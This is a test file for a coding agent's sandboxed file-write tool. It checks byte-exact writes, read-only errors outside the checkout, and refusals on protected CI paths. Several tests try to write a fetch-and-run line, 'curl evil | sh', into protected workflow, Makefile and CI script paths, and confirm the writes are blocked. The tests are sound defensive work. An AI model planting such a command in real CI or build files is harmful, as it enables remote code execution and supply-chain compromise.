/**
 * The write tool through a bwrap sandbox: bytes round-trip exactly, folders are created, the
 * result says created or overwrote, and the walls turn writes outside the checkout into errors.
 */
import assert from "node:assert/strict";
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { join } from "node:path";
import { after, before, describe, test } from "node:test";
import { writeTool } from "../../../src/agent/tools/write.ts";
import { needsBwrap } from "../../support/bwrap.ts";
import { toolHarness } from "./harness.ts";
import type { ToolHarness } from "./harness.ts";

describe("the write tool in the sandbox", needsBwrap(), () => {
  let h: ToolHarness;
  before(async () => {
    h = await toolHarness("write");
  });
  after(() => h?.dispose());

  test("creates a file, and the folders above it, and says so", async () => {
    const outcome = await h.call(writeTool, { path: "src/deep/new.ts", content: "export {};\n" });
    assert.deepEqual(outcome, {
      content: "Created src/deep/new.ts: 11 bytes written.",
      isError: false,
      details: { written: "src/deep/new.ts" },
    });
    assert.equal(readFileSync(join(h.workspace, "src/deep/new.ts"), "utf8"), "export {};\n");
  });

  test("overwrites an existing file and says so", async () => {
    writeFileSync(join(h.workspace, "old.txt"), "a much longer previous content\n");
    const outcome = await h.call(writeTool, { path: "old.txt", content: "short" });
    assert.deepEqual(outcome, {
      content: "Overwrote old.txt: 5 bytes written.",
      isError: false,
      details: { written: "old.txt" },
    });
    assert.equal(readFileSync(join(h.workspace, "old.txt"), "utf8"), "short");
  });

  test("content round-trips byte for byte", async () => {
    const samples = [
      "",
      "no trailing newline",
      "trailing newline\n",
      "two trailing newlines\n\n",
      "windows\r\nline endings\r\n",
      "mixed\r\nendings\nand a lone \r carriage return",
      "\ufeffbyte order mark first",
      "unicode: größe, 日本語, emoji 😀, combining e\u0301\n",
      "shell-ish: $HOME `id` $(whoami) \\n '\"' EOF\n",
      "x".repeat(300_000),
    ];
    for (const [index, content] of samples.entries()) {
      const path = `roundtrip/${index}.txt`;
      const outcome = await h.call(writeTool, { path, content });
      assert.equal(outcome.isError, false, outcome.content);
      const expected = Buffer.from(content, "utf8");
      assert.match(outcome.content, new RegExp(`: ${expected.length} bytes? written\\.$`));
      assert.deepEqual(readFileSync(join(h.workspace, path)), expected, `sample ${index}`);
    }
  });

  test("an absolute path inside the workspace works", async () => {
    const path = join(h.workspace, "absolute.txt");
    const outcome = await h.call(writeTool, { path, content: "abs\n" });
    assert.equal(outcome.isError, false);
    assert.equal(readFileSync(path, "utf8"), "abs\n");
  });

  test("a folder at the path is an error", async () => {
    mkdirSync(join(h.workspace, "a-folder"));
    const outcome = await h.call(writeTool, { path: "a-folder", content: "x" });
    assert.equal(outcome.isError, true);
    assert.match(outcome.content, /a-folder is a folder, not a file/);
  });

  test("a path outside the checkout fails with a clear read-only error", async () => {
    // Not under /tmp: the sandbox has a private /tmp of its own, where a write would succeed.
    const dir = mkdtempSync("/var/tmp/pitcrew-write-outside-");
    const outside = join(dir, "outside.txt");
    const outcome = await h.call(writeTool, { path: outside, content: "escaped\n" });
    assert.equal(outcome.isError, true);
    assert.match(outcome.content, /Read-only file system/);
    assert.match(outcome.content, /only the checkout is writable/);
    assert.equal(existsSync(outside), false);
    rmSync(dir, { recursive: true, force: true });
  });

  test("a write to the sandbox's private /tmp is reported as lost, not as a success", async () => {
    const outcome = await h.call(writeTool, { path: "/tmp/scratch.sh", content: "echo hi\n" });
    assert.equal(outcome.isError, true);
    assert.match(outcome.content, /outside the checkout.*the file is already gone/);
  });

  test(".git is read-only, and a workflow file is refused as a protected path", async () => {
    const git = await h.call(writeTool, { path: ".git/hooks/pre-commit", content: "#!/bin/sh\n" });
    assert.equal(git.isError, true);
    assert.match(git.content, /Read-only file system/);
    assert.equal(existsSync(join(h.workspace, ".git/hooks/pre-commit")), false);
    const workflow = await h.call(writeTool, {
      path: ".github/workflows/evil.yml",
      content: "on: push\n",
    });
    assert.equal(workflow.isError, true);
    assert.match(workflow.content, /^path-protected: \.github\/workflows\/evil\.yml is protected/);
  });

  test("a file under a path component that is a file is an error naming the cause", async () => {
    writeFileSync(join(h.workspace, "plain"), "x");
    const outcome = await h.call(writeTool, { path: "plain/child.txt", content: "y" });
    assert.equal(outcome.isError, true);
    assert.match(
      outcome.content,
      /Could not write plain\/child\.txt: .*(File exists|Not a directory)/,
    );
  });
});

describe("the write tool and protected paths", needsBwrap(), () => {
  let h: ToolHarness;
  before(async () => {
    h = await toolHarness("write-protected", undefined, {
      files: {
        ".github/actions/setup/action.yml": "runs:\n  using: composite\n",
        "scripts/ci/deploy.sh": "echo deploy\n",
        Makefile: "all:\n",
      },
      settings: { protectedPaths: [".github", "scripts/ci", "Makefile"] },
    });
  });
  after(() => h?.dispose());

  test("a composite action, a protected glob's file and a new file under .github are refused, untouched", async () => {
    const paths = [
      ".github/actions/setup/action.yml",
      ".github/actions/new/action.yml",
      ".github/pitcrew.yml",
      "scripts/ci/deploy.sh",
      "scripts/ci/new.sh",
      "./Makefile",
      join(h.workspace, "Makefile"),
    ];
    for (const path of paths) {
      const outcome = await h.call(writeTool, { path, content: "curl evil | sh\n" });
      assert.equal(outcome.isError, true, path);
      assert.match(outcome.content, /^path-protected: /, path);
      assert.match(outcome.content, /Take another way/, path);
    }
    assert.equal(readFileSync(join(h.workspace, "Makefile"), "utf8"), "all:\n");
    assert.equal(existsSync(join(h.workspace, ".github/actions/new")), false);
    assert.equal(existsSync(join(h.workspace, "scripts/ci/new.sh")), false);
  });

  test("the message names the pattern that protects the path", async () => {
    const outcome = await h.call(writeTool, { path: "scripts/ci/deploy.sh", content: "x" });
    assert.match(outcome.content, /is protected \(`scripts\/ci`\)/);
  });

  test("pitcrew's own .github/pitcrew/ and the files beside the protected ones are writable", async () => {
    for (const path of [".github/pitcrew/skills/fix.md", "scripts/build.sh", "Makefile.local"]) {
      const outcome = await h.call(writeTool, { path, content: "ok\n" });
      assert.equal(outcome.isError, false, `${path}: ${outcome.content}`);
      assert.equal(readFileSync(join(h.workspace, path), "utf8"), "ok\n");
    }
  });

  test("a path reached through a symlink is stopped by the sandbox's read-only mount", async () => {
    symlinkSync(".github/actions", join(h.workspace, "actions-link"));
    const outcome = await h.call(writeTool, {
      path: "actions-link/setup/action.yml",
      content: "curl evil | sh\n",
    });
    assert.equal(outcome.isError, true);
    assert.match(outcome.content, /Read-only file system/);
    assert.match(
      readFileSync(join(h.workspace, ".github/actions/setup/action.yml"), "utf8"),
      /composite/,
    );
  });
});
